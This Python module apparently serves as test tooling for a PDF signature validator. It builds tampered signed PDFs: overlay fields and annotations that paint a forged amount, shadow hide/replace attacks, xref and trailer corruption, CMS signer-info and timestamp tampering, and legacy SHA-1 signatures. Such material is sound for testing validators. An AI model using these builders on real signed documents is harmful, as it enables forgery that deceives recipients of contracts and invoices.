"""Hostile PDFs built from signed records: overlays, shadow attacks, malformed structures and
signatures pyHanko does not read by itself (issue 18). Each builder returns new bytes."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import re

from asn1crypto import cms, core, keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers
from pyhanko.sign.signers.cms_embedder import PdfCMSEmbedder, SigIOSetup, SigObjSetup
from pyhanko.sign.signers.pdf_byterange import SignatureObject
from pyhanko_certvalidator.registry import SimpleCertificateStore

from signing.cms import run_sync
from signing.keystore import KeyStore

OVERLAY = b"0.9 0.9 0.9 rg 0 0 200 30 re f BT /Helv 14 Tf 0 0 0 rg 6 9 Td (9,999,999 JPY) Tj ET"


def _rect(x: float = 300, y: float = 600, w: float = 200, h: float = 30) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(v) for v in (x, y, x + w, y + h)])


def _appearance(w: IncrementalPdfFileWriter, ops: bytes = OVERLAY) -> generic.IndirectObject:
    font = w.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/Helvetica"),
            }
        )
    )
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(
                [generic.FloatObject(v) for v in (0, 0, 200, 30)]
            ),
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/Helv"): font})}
            ),
        },
        stream_data=ops,
    )
    return w.add_object(stream)


def _write(w: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _acroform(w: IncrementalPdfFileWriter) -> generic.ArrayObject:
    root = w.root
    if "/AcroForm" not in root:
        root[pdf_name("/AcroForm")] = generic.DictionaryObject(
            {pdf_name("/Fields"): generic.ArrayObject()}
        )
        w.update_root()
    form = root["/AcroForm"]
    raw = root.raw_get("/AcroForm")
    if isinstance(raw, generic.IndirectObject):
        w.mark_update(raw)
    else:
        w.update_root()
    fields = form["/Fields"]
    raw_fields = form.raw_get("/Fields")
    if isinstance(raw_fields, generic.IndirectObject):
        w.mark_update(raw_fields)
    return fields


def field_overlay(data: bytes, ft: str = "/Sig", *, page: int = 0, value: bool = False) -> bytes:
    """A new form field (an empty signature field by default) whose widget paints an amount
    over the cover: the forged overlay of issue 18."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    page_ref, _ = w.find_page_for_modification(page)
    entries = {
        pdf_name("/Type"): pdf_name("/Annot"),
        pdf_name("/Subtype"): pdf_name("/Widget"),
        pdf_name("/FT"): pdf_name(ft),
        pdf_name("/T"): generic.TextStringObject(f"overlay-{ft[1:]}"),
        pdf_name("/Rect"): _rect(),
        pdf_name("/F"): generic.NumberObject(4),
        pdf_name("/P"): page_ref,
        pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _appearance(w)}),
    }
    if ft == "/Ch":
        entries[pdf_name("/Opt")] = generic.ArrayObject([generic.TextStringObject("9,999,999")])
    if ft == "/Btn":
        entries[pdf_name("/Ff")] = generic.NumberObject(1 << 16)  # a push button
    if value and ft == "/Tx":
        entries[pdf_name("/V")] = generic.TextStringObject("9,999,999 JPY")
    widget = w.add_object(generic.DictionaryObject(entries))
    _acroform(w).append(widget)
    w.register_annotation(page_ref, widget)
    return _write(w)


def annotation_overlay(data: bytes, subtype: str, *, page: int = 0) -> bytes:
    """Any annotation type drawing the forged amount, in an incremental update."""
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    page_ref, _ = w.find_page_for_modification(page)
    annot = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): _rect(),
            pdf_name("/Contents"): generic.TextStringObject("9,999,999 JPY"),
            pdf_name("/P"): page_ref,
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _appearance(w)}),
        }
    )
    w.register_annotation(page_ref, w.add_object(annot))
    return _write(w)


def metadata_change(data: bytes) -> bytes:
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    info = generic.DictionaryObject(
        {pdf_name("/Title"): generic.TextStringObject("文書番号 企財第999号")}
    )
    w.set_info(info)
    return _write(w)


# --- shadow attacks (Mainka et al., "Shadow Attacks", NDSS 2021) -------------------------------


def shadow_prepared(source: bytes) -> tuple[bytes, generic.Reference]:
    """The attacker's document before it is signed: the cover carries a hidden form XObject
    (an overlay drawn with zero size) that a later revision can show or swap."""
    w = IncrementalPdfFileWriter(io.BytesIO(source), strict=False)
    page_ref, _ = w.find_page_for_modification(0)
    page = page_ref.get_object()
    xobject = _appearance(w, b"0 0 1 rg 0 0 1 1 re f")
    resources = page["/Resources"]
    resources[pdf_name("/XObject")] = generic.DictionaryObject({pdf_name("/Sh"): xobject})
    contents = page["/Contents"]
    extra = w.add_object(generic.StreamObject(stream_data=b"q 0 0 0 0 cm /Sh Do Q"))
    page[pdf_name("/Contents")] = generic.ArrayObject(
        [
            *(
                contents
                if isinstance(contents, generic.ArrayObject)
                else [page.raw_get("/Contents")]
            ),
            extra,
        ]
    )
    w.update_container(page)
    return _write(w), xobject.reference


def shadow_hide(signed: bytes, xobject: generic.Reference) -> bytes:
    """Hide: a white box over the content, through a rewritten earlier object."""
    w = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject([generic.FloatObject(v) for v in (0, 0, 1, 1)]),
        },
        stream_data=b"1 1 1 rg 0 0 1 1 re f",
    )
    w.objects[(xobject.generation, xobject.idnum)] = stream
    return _write(w)


def shadow_replace(signed: bytes) -> bytes:
    """Replace: the first content stream of page 1 redefined with other text."""
    w = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    page_ref, _ = w.find_page_for_modification(0)
    contents = page_ref.get_object().raw_get("/Contents")
    array = contents.get_object()
    first = array.raw_get(0) if isinstance(array, generic.ArrayObject) else contents
    ref = first.reference
    w.objects[(ref.generation, ref.idnum)] = generic.StreamObject(
        stream_data=b"BT /F1 24 Tf 72 700 Td (9,999,999 JPY) Tj ET"
    )
    return _write(w)


def shadow_hide_and_replace(signed: bytes, shadow_offset_of: bytes = b"/Sh Do") -> bytes:
    """Hide-and-replace: an update that adds no object, only an xref table pointing an existing
    object number (the page's contents) at other bytes already inside the signed range."""
    m = list(re.finditer(rb"(\d+) 0 obj\s*<<[^>]*?/Length", signed))
    target = int(m[0].group(1))
    elsewhere = m[-1].start()
    startxref = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    size = int(re.findall(rb"/Size\s+(\d+)", signed)[-1])
    root = re.findall(rb"/Root\s+(\d+ \d+ R)", signed)[-1]
    offset = len(signed)
    body = (
        b"xref\n0 1\n0000000000 65535 f \n"
        + f"{target} 1\n{elsewhere:010d} 00000 n \n".encode()
        + b"trailer\n<< /Size "
        + str(size).encode()
        + b" /Root "
        + root
        + b" /Prev "
        + str(startxref).encode()
        + b" >>\nstartxref\n"
        + str(offset).encode()
        + b"\n%%EOF\n"
    )
    return signed + b"\n" + body


# --- malformed structures ----------------------------------------------------------------------


def raw_update(data: bytes, trailer_extra: bytes, *, startxref: bytes | None = None) -> bytes:
    """An incremental update with no objects and extra trailer entries."""
    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size = int(re.findall(rb"/Size\s+(\d+)", data)[-1])
    root = re.findall(rb"/Root\s+(\d+ \d+ R)", data)[-1]
    offset = len(data) + 1
    return (
        data
        + b"\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size "
        + str(size).encode()
        + b" /Root "
        + root
        + b" /Prev "
        + str(prev).encode()
        + b" "
        + trailer_extra
        + b" >>\nstartxref\n"
        + (startxref if startxref is not None else str(offset).encode())
        + b"\n%%EOF\n"
    )


def encrypt_array(data: bytes) -> bytes:
    return raw_update(data, b"/Encrypt [ 1 0 R 2 ]")


def negative_offset(data: bytes) -> bytes:
    """A last update whose cross-reference table points at a negative offset."""
    prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    size = int(re.findall(rb"/Size\s+(\d+)", data)[-1])
    root = re.findall(rb"/Root\s+(\d+ \d+ R)", data)[-1]
    return (
        data
        + b"\nxref\n0 2\n0000000000 65535 f \n-000000042 00000 n \ntrailer\n<< /Size "
        + str(size).encode()
        + b" /Root "
        + root
        + b" /Prev -"
        + str(prev).encode()
        + b" >>\nstartxref\n-"
        + str(len(data) + 1).encode()
        + b"\n%%EOF\n"
    )


def broken_startxref(data: bytes) -> bytes:
    return raw_update(data, b"", startxref=b"999999999")


def patch_cms(data: bytes, change, which: int = -1) -> bytes:
    """Rewrite the CMS of a signature in place (its /Contents lies outside the signed bytes)."""
    ranges = list(re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data))
    m = ranges[which]
    start, end = int(m.group(2)) + 1, int(m.group(3)) - 1
    hexed = data[start:end]
    info = cms.ContentInfo.load(bytes.fromhex(hexed.decode()), strict=False)
    new = change(info).dump().hex().encode()
    assert len(new) <= len(hexed)
    return data[:start] + new + b"0" * (len(hexed) - len(new)) + data[end:]


def two_signer_infos(info: cms.ContentInfo) -> cms.ContentInfo:
    first = info["content"]["signer_infos"][0]
    info["content"]["signer_infos"] = cms.SignerInfos([first, first])
    return info


def copied_timestamp(donor: bytes):
    """The signature timestamp token of another signature, copied into this one."""
    hexed = re.findall(rb"/Contents\s*<([0-9a-fA-F]+)>", donor)[0]
    donor_info = cms.ContentInfo.load(bytes.fromhex(hexed.decode()), strict=False)
    token = donor_info["content"]["signer_infos"][0]["unsigned_attrs"]

    def change(info: cms.ContentInfo) -> cms.ContentInfo:
        info["content"]["signer_infos"][0]["unsigned_attrs"] = token.copy()
        return info

    return change


# --- legacy SubFilters -------------------------------------------------------------------------


def _simple_signer(store: KeyStore, key_id: str) -> signers.SimpleSigner:
    key = store.get(key_id)
    der = key.private_key.private_bytes(
        serialization.Encoding.DER,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    registry = SimpleCertificateStore()
    registry.register_multiple(list(key.chain))
    return signers.SimpleSigner(
        signing_cert=key.asn1_certificate,
        signing_key=keys.PrivateKeyInfo.load(der),
        cert_registry=registry,
    )


def _embed(data: bytes, name: str, subfilter: str, contents, extra=None, md: str = "sha1") -> bytes:
    w = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    embedder = PdfCMSEmbedder().write_cms(field_name=name, writer=w)
    next(embedder)
    sig = SignatureObject(bytes_reserved=8192)
    sig[pdf_name("/SubFilter")] = pdf_name(subfilter)
    sig[pdf_name("/Name")] = generic.TextStringObject("旧 方式")
    sig[pdf_name("/M")] = generic.pdf_date(dt.datetime.now(dt.UTC).replace(microsecond=0))
    for k, v in (extra or {}).items():
        sig[pdf_name(k)] = v
    embedder.send(SigObjSetup(sig_placeholder=sig))
    prepared, output = embedder.send(SigIOSetup(md_algorithm=md, in_place=False))
    signed = _signed_bytes(output.getvalue(), prepared)
    embedder.send(contents(signed))
    return output.getvalue()


def _signed_bytes(buf: bytes, prepared) -> bytes:
    start, end = prepared.reserved_region_start, prepared.reserved_region_end
    return buf[:start] + buf[end:]


def sign_pkcs7_sha1(data: bytes, store: KeyStore, key_id: str) -> bytes:
    """adbe.pkcs7.sha1: a CMS whose encapsulated content is the SHA-1 digest of the byte range."""
    signer = _simple_signer(store, key_id)

    def contents(signed: bytes) -> cms.ContentInfo:
        digest = hashlib.sha1(signed, usedforsecurity=False).digest()
        return run_sync(signer.async_sign_general_data(digest, "sha256", detached=False))

    return _embed(data, "legacy-sha1", "/adbe.pkcs7.sha1", contents)


def rsa_certificate(store: KeyStore) -> tuple[rsa.RSAPrivateKey, x509.Certificate]:
    """An RSA certificate issued by our root (our position keys are ECDSA)."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    root = store.root()
    now = dt.datetime.now(dt.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "旧方式 課長")]))
        .issuer_name(root.subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=30))
        .add_extension(
            x509.KeyUsage(True, True, False, False, False, False, False, False, False), True
        )
        .sign(store.ca._root_key(), hashes.SHA256())
    )
    return key, cert


def sign_x509_rsa_sha1(data: bytes, store: KeyStore) -> bytes:
    """adbe.x509.rsa_sha1: a bare PKCS#1 signature in /Contents, the certificate in /Cert."""
    key, cert = rsa_certificate(store)
    der = cert.public_bytes(serialization.Encoding.DER)

    def contents(signed: bytes) -> bytes:
        sig = key.sign(signed, padding.PKCS1v15(), hashes.SHA1())  # noqa: S303
        return core.OctetString(sig).dump()

    return _embed(
        data,
        "legacy-rsa",
        "/adbe.x509.rsa_sha1",
        contents,
        extra={"/Cert": generic.ByteStringObject(der)},
    )


__all__ = ["asn1_x509"]
